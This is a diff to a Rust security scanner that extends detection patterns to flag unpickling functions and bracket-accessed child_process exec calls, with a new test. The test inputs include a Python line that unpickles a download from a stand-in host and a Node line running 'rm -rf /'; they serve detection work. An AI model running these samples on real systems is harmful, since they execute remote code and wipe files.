@@ -153,7 +153,10 @@ static PYTHON: LazyLock<Patterns> = LazyLock::new(|| Patterns {
             r"\bos\.(?:chmod|lchmod|chown|lchown|chflags|lchflags)|\bshutil\.chown",
         ),
     ]),
-    eval: re(r"\b(?:exec|eval|compile)\s*\("),
+    // Unpickling runs whatever the data says (`__reduce__`): a pickle from the network is code.
+    eval: re(
+        r"\b(?:exec|eval|compile|pickle\.loads?|cPickle\.loads?|dill\.loads?|cloudpickle\.loads?|marshal\.loads?|yaml\.unsafe_load|jsonpickle\.decode)\s*\(",
+    ),
     hidden: re(
         r"b64decode|b32decode|a85decode|base64\.|codecs\.decode|bytes\.fromhex|zlib\.decompress|marshal\.loads|requests\.(?:get|post)|urlopen|urllib\.|httpx\.|\.read\(\)\.decode",
     ),
@@ -174,7 +177,7 @@ static NODE: LazyLock<Patterns> = LazyLock::new(|| Patterns {
     calls: calls(&[
         (
             Op::Shell,
-            r#"(?:\b(?:child_process|childProcess|cp|proc)\.|child_process['"`]\)\.|[^.\w]|^)(?:exec|execSync)"#,
+            r#"(?:\b(?:child_process|childProcess|cp|proc)\.|child_process['"`]\)\.|[^.\w]|^)(?:exec|execSync)|child_process['"`]\)\[['"`](?:exec|execSync)['"`]\]"#,
         ),
         (
             Op::Spawn,
@@ -4711,6 +4714,32 @@ mod tests {
             ),
             None
         );
+    }
+
+    /// Unpickling data from the network runs it (`__reduce__`), as `exec` of it would; a
+    /// method of `child_process` reached by a bracket is the method.
+    #[test]
+    fn unpickled_downloads_and_bracketed_methods() {
+        let rule = |l: Language, code: &str| worst(l, code).map(|w| (w.0, w.1));
+        assert_eq!(
+            rule(
+                Language::Python,
+                "import pickle, urllib.request\npickle.loads(urllib.request.urlopen('http://x.example/p').read())\n"
+            ),
+            Some((Effect::Deny, "scan/hidden-code".to_string()))
+        );
+        assert_eq!(
+            rule(
+                Language::Python,
+                "import pickle\nd = pickle.loads(open('c.pkl', 'rb').read())\n"
+            ),
+            None
+        );
+        let node = worst(
+            Language::Node,
+            "require('child_process')['exec']('rm -rf /')\n",
+        );
+        assert_eq!(node.map(|w| w.0), Some(Effect::Deny));
     }
 
     /// A database file a program opens is one it may change: `sqlite3.connect(p)` writes `p`
